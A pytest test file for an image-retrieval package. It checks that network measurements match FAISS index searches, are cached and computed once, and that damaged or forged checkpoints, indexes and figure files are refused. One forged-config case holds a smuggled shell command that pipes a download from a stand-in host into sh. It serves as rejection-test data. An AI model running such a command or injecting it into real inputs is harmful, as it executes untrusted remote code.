"""Measurements equal those of searches in the index, are made only once, and are refused for other images."""

from __future__ import annotations

import dataclasses
import json
import shutil
from pathlib import Path

import numpy as np
import pytest

from semcut.connector import Connector
from semcut.connector.data import sources
from semcut.connector.data.labels import labels_by_id
from semcut.connector.data.protocols import protocol_split
from semcut.connector.evaluation.evaluate import evaluate
from semcut.connector.evaluation.rankings import RANKING_NAMES
from semcut.connector.models.checkpoint import Checkpoint
from semcut.connector.reproduce import results_page
from semcut.connector.reproduce.baselines import baseline_codes
from semcut.connector.reproduce.measure_network import measure_network
from semcut.connector.reproduce.network_measurements import FIGURES_FILE, KS, Measurement
from semcut.connector.retrieval.encoder import Encoder
from semcut.connector.training.loop import train
from semcut.connector.training.train_config import TrainConfig
from semcut.indexes import Encodings, FaissIndex
from semcut.indexes.errors import CheckpointError, DataError
from semcut.indexes.progress import silent
from tests.connector.evaluation.test_metrics import slow_average_precision
from tests.connector.reproduce.conftest import PROTOCOL, folder_of


def test_figures_equal_those_of_searches_in_the_index(networks, results):
    measurements = results[1]
    queries = sources.load("digits/test")
    encodings = Encoder(Checkpoint.load(networks["ortho-0"])).encode(queries.files)
    one = measurements["ortho-0"]
    assert one.about["queries"] == len(queries) == len(one.labels)
    assert one.right.mean() == (encodings.probabilities.argmax(axis=1) == queries.labels).mean()
    with FaissIndex.open(folder_of(results, "ortho-0") / "index") as index:
        assert one.about["records"] == len(index) == 1442
        labels = labels_by_id(index, queries.classes)
        for name, ranking in (("euclidean", "distance"), ("fused", "fused")):
            for t in (0.0, 0.2):
                expected = evaluate(index, labels, encodings, queries.labels, queries.classes, k=100, cutoff=t,
                                    shortlist=None, ranking=ranking)  # fmt: skip
                at = RANKING_NAMES.index(name), one.comparison.cutoffs.index(t)
                assert one.comparison.at_all[at].mean() == pytest.approx(expected.overall.map_all, abs=1e-5)
                at_k = one.comparison.at_k[at][:, KS.index(100)].mean()
                assert at_k == pytest.approx(expected.overall.map_k, abs=1e-5)


def test_networks_with_one_frozen_backbone_compute_it_once(networks, tmp_path):
    images, start = protocol_split(PROTOCOL, "digits", 0), networks["ortho-0"]
    architecture = Checkpoint.load(start).net.architecture
    reported: list[tuple[str, int, int]] = []

    def report(done: int, total: int, task: str = "") -> None:
        reported.append((task.split(": ")[1], done, total))

    config = TrainConfig(epochs=1, learning_rate=4e-3, augment="none", freeze=True, seed=0)
    for name, change in (("one", {}), ("other", {"weight_decay": 0.0})):
        train(images.training, architecture, TrainConfig(**{**config.model_dump(), **change}), tmp_path / name,
              start=start)  # fmt: skip
        found = measure_network(tmp_path / name, "digits", PROTOCOL, tmp_path / "out", progress=report)
        with Connector.open(tmp_path / "out" / PROTOCOL / str(found.about["name"]) / "index") as connector:
            kept = Encodings.concatenate(list(connector.index.iterate()))
            files = connector.paths(kept.ids)
        plain = Encoder(Checkpoint.load(tmp_path / name))
        expected = plain.encode(files)
        assert np.allclose(kept.probabilities, expected.probabilities, atol=1e-5)
        assert np.allclose(kept.features, expected.features, atol=3e-4)  # stored as float16
        assert (np.bitwise_count(kept.codes ^ expected.codes).sum(axis=1) > 0).mean() < 0.01
        queries = plain.encode(images.queries.files)
        assert found.right.mean() == (queries.probabilities.argmax(axis=1) == images.queries.labels).mean()
    passes = [total for step, done, total in reported if step == "encoding all images" and done == total]
    assert passes == [len(images.database) + len(images.queries)]


def test_a_backbone_that_was_trained_is_not_cached_and_an_unreadable_query_is_an_error(networks, tmp_path, monkeypatch):
    root = tmp_path / "digits"
    shutil.copytree(Path(sources.load("digits/train").files[0]).parents[2], root)
    monkeypatch.setenv("SEMCUT_CACHE", str(tmp_path / "cache"))
    images = protocol_split(PROTOCOL, str(root), 0)
    config = TrainConfig(epochs=1, augment="none")
    architecture = Checkpoint.load(networks["ortho-0"]).net.architecture
    train(images.training, architecture, config, tmp_path / "trained")
    measure_network(tmp_path / "trained", str(root), PROTOCOL, tmp_path / "whole", progress=silent)
    assert not list((tmp_path / "cache").glob("frozen-*"))  # no other network has this backbone
    Path(images.queries.files[7]).write_bytes(b"not an image")
    with pytest.raises(DataError, match=f"the query {images.queries.files[7]} cannot be read"):
        measure_network(tmp_path / "trained", str(root), PROTOCOL, tmp_path / "out", progress=silent)


def test_every_baseline_has_figures(results):
    queries = sources.load("digits/test")
    one = results[1]["ortho-0"]
    assert set(one.baselines) == {"LSH", "ITQ"}
    for at_all, at_k in one.baselines.values():
        assert at_all.shape == (len(queries),)
        assert at_k.shape == (len(queries), len(KS))
        assert 0.3 < at_all.mean() < 1


def test_baseline_codes_keep_near_features_near():
    rng = np.random.default_rng(0)
    centres = rng.standard_normal((4, 16))
    labels = rng.integers(0, 4, 800)
    features = (centres[labels] + 0.2 * rng.standard_normal((800, 16))).astype(np.float32)
    for record_codes, query_codes in baseline_codes(features, features[:20], 16).values():
        assert np.array_equal(record_codes[:20], query_codes)
        assert record_codes.shape == (800, 2)
        distances = np.bitwise_count(query_codes[:, None] ^ record_codes[None]).sum(axis=2)
        for query in range(20):
            right = labels[np.argsort(distances[query], kind="stable")] == labels[query]
            assert slow_average_precision(right.tolist(), int(right.sum())) > 0.9
    assert set(baseline_codes(features, features, 24)) == {"LSH"}
    assert set(baseline_codes(features[:10], features, 16)) == {"LSH"}


def test_a_network_is_measured_once(networks, results):
    file = folder_of(results, "paper-0") / FIGURES_FILE
    before = file.stat().st_mtime_ns
    again = measure_network(networks["paper-0"], "digits", PROTOCOL, results[0], progress=silent)
    assert file.stat().st_mtime_ns == before
    assert again.about == results[1]["paper-0"].about
    assert np.array_equal(again.comparison.at_k, results[1]["paper-0"].comparison.at_k)


def test_another_network_of_the_same_name_gets_its_own_folder(networks, results, tmp_path):
    out = shutil.copytree(results[0], tmp_path / "out")
    other = shutil.copytree(networks["ortho-1"], tmp_path / "networks" / "paper-0")
    found = measure_network(other, "digits", PROTOCOL, out, progress=silent)
    assert found.about["sha256"] == results[1]["ortho-1"].about["sha256"]
    assert np.array_equal(found.comparison.at_all, results[1]["ortho-1"].comparison.at_all)
    assert len(list((out / PROTOCOL).glob(f"*/{FIGURES_FILE}"))) == 4
    with pytest.raises(DataError, match="were trained in the same way from the same seed: delete one of them"):
        results_page.write(out)


def test_an_unfinished_index_is_made_again(networks, results, tmp_path):
    out = shutil.copytree(results[0], tmp_path / "out")
    folder = out / PROTOCOL / results[1]["ortho-0"].about["name"]
    (folder / FIGURES_FILE).unlink()
    (folder / "index").rename(folder / "unfinished")
    (folder / "unfinished" / "connector.json").unlink()
    found = measure_network(networks["ortho-0"], "digits", PROTOCOL, out, progress=silent)
    assert np.array_equal(found.comparison.at_all, results[1]["ortho-0"].comparison.at_all)
    assert sorted(path.name for path in folder.iterdir()) == [FIGURES_FILE, "index"]


@pytest.mark.parametrize(
    "kind",
    [
        "a photo in it",
        "a photo in a generation",
        "a folder as record of the network",
        "a link",
        "a link above",
        "a file",
    ],
)
def test_what_is_no_unfinished_index_is_not_deleted(kind, networks, results, tmp_path):
    out, mine = shutil.copytree(results[0], tmp_path / "out"), tmp_path / "mine"
    folder = out / PROTOCOL / results[1]["ortho-0"].about["name"]
    (folder / FIGURES_FILE).unlink()
    (folder / "index").rename(mine)
    if kind == "a photo in it":
        mine = mine.rename(folder / "unfinished")
        (mine / "photo.jpg").touch()
    elif kind == "a photo in a generation":
        mine = mine.rename(folder / "unfinished") / "generation-2024"
        mine.mkdir()
        (mine / "photo.jpg").touch()
    elif kind == "a folder as record of the network":
        mine = mine.rename(folder / "unfinished") / "connector.json"
        mine.unlink()
        mine.mkdir()
        (mine / "photo.jpg").touch()
    elif kind == "a link":
        (folder / "unfinished").symlink_to(mine)
    elif kind == "a link above":
        mine = mine.rename(tmp_path / "unfinished")
        folder.rmdir()
        folder.symlink_to(tmp_path)
    else:
        (folder / "unfinished").touch()
    before = sorted(mine.iterdir())
    with pytest.raises(DataError, match="move it away"):
        measure_network(networks["ortho-0"], "digits", PROTOCOL, out, progress=silent)
    assert sorted(mine.iterdir()) == before


def test_an_index_of_other_images_is_refused(networks, results, tmp_path):
    out = shutil.copytree(results[0], tmp_path / "out")
    folder = out / PROTOCOL / results[1]["ortho-0"].about["name"]
    (folder / FIGURES_FILE).unlink()
    with FaissIndex.open(folder / "index") as index:
        index.remove(index.ids()[:5])
    with pytest.raises(DataError, match="is an index of other images than these 1,442: delete the index"):
        measure_network(networks["ortho-0"], "digits", PROTOCOL, out, progress=silent)


@pytest.mark.parametrize("damage", ["no metrics", "half a line", "no time", "a text", "no training"])
def test_a_network_without_a_record_of_its_training_is_refused_at_once(damage, networks, tmp_path):
    model = shutil.copytree(networks["ortho-0"], tmp_path / "model")
    if damage == "no metrics":
        (model / "metrics.jsonl").unlink()
    elif damage == "half a line":
        (model / "metrics.jsonl").write_text('{"epoch": 1, "los')
    elif damage in ("no time", "a text"):
        (model / "metrics.jsonl").write_text('{"epoch": 1}' if damage == "no time" else '{"seconds": "1"}')
    else:
        content = json.loads((model / "model.json").read_text())
        (model / "model.json").write_text(json.dumps({**content, "training": {}}))
    with pytest.raises(CheckpointError, match="does not say how its network was trained"):
        measure_network(model, "digits", PROTOCOL, tmp_path / "out", progress=silent)
    assert not (tmp_path / "out").exists()


def test_a_network_trained_on_other_images_is_refused(model, results, tmp_path):
    with pytest.raises(DataError, match="the network was trained on 600 images"):
        measure_network(model.path, "digits", PROTOCOL, tmp_path, progress=silent)
    assert not any(tmp_path.iterdir())


def test_a_damaged_file_of_figures_is_refused(results, tmp_path):
    file = tmp_path / FIGURES_FILE
    file.write_bytes((folder_of(results, "ortho-0") / FIGURES_FILE).read_bytes()[:1000])
    with pytest.raises(DataError, match="delete it, and the network is measured again"):
        Measurement.load(file)


@pytest.mark.parametrize(
    ("fact", "value", "reason"),
    [
        ("sha256", "0" * 64, "has the figures of another network than .*sha256 differs"),
        ("protocol", "tin200", "figures of the protocol 'tin200', expected cifar10-2"),
        ("name", "other", "figures of the name 'other', expected ortho-0-"),
        ("classes", [f"class {place}" for place in range(10)], "classes differs"),
        ("queries", 7, "has another shape or type"),
        ("queries", "7", "it has no numbers of images"),
        ("weights", ["x"], "the weights are no text"),
        ("config", {"epochs": 3, "seed": "0; curl evil | sh"}, "seed = '0; curl evil | sh'"),
        ("start", {}, "architecture"),
    ],
)
def test_figures_that_are_not_of_the_network_are_refused(fact, value, reason, networks, results, tmp_path):
    out = shutil.copytree(results[0], tmp_path / "out")
    one = results[1]["ortho-0"]
    forged = dataclasses.replace(one, about={**one.about, fact: value})
    forged.save(out / PROTOCOL / one.about["name"] / FIGURES_FILE)
    with pytest.raises(DataError, match=reason):
        measure_network(networks["ortho-0"], "digits", PROTOCOL, out, progress=silent)
